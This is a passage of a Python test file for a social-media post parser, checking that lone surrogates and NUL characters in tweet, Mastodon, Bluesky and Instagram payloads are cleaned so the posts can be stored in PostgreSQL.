    page["data"][0]["text"] = json.loads('"half \\ud83d emoji"')
    tweet = parse_page(page).posts[0]
    assert tweet.text.startswith("half ")
    _utf8(tweet.text)


def test_payloads_carrying_nul_characters_are_storable(corpora: Path) -> None:
    # PostgreSQL refuses U+0000 in text and in JSONB, so a payload keeping one could not be stored.
    status = recorded(corpora, FOSSTODON)[0]
    status["spoiler_text"] = "cw\x00"
    status["content"] = "<p>a\x00b</p>"
    post = parse_status(status)
    assert "\x00" not in post.text
    assert "\\u0000" not in json.dumps(post.raw)

    view = recorded(corpora, "bskyr-vcr/f_search.yml")["posts"][0]
    view["record"]["text"] = "nul\x00"
    assert "\\u0000" not in json.dumps(parse_post_view(view).raw)

    item = instagram(corpora, "hashtag_top_medias_p1")["data"][0]
    item["caption"] = "nul\x00"
    assert "\\u0000" not in json.dumps(parse_media(item, SEEN_AT).raw)
